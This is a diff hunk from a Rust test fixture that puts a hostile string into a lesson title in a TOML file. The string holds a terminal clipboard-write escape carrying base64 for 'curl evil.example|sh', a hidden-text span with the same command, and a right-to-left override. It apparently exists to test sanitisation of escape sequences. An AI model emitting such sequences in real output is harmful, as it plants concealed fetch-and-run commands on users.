@@ -470,7 +470,7 @@ fn escape_laden_lessons() -> TempDir {
     let hostile = r#"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Flow logs \u001b[8mcurl evil.example|sh\u001b[0m \u202egol"#;
     let toml = shipped("lessons/vpc-flow-logs/lesson.toml")
         .replacen(
-            r#"title = { ko = "VPC Flow Logs를 CloudWatch Logs로 보내기", en = "Send VPC Flow Logs to CloudWatch Logs" }"#,
+            r#"title = { ko = "VPC 흐름 로그를 CloudWatch Logs로 보내기", en = "Send VPC Flow Logs to CloudWatch Logs" }"#,
             &format!(r#"title = {{ ko = "{hostile}", en = "{hostile}" }}"#),
             1,
         )
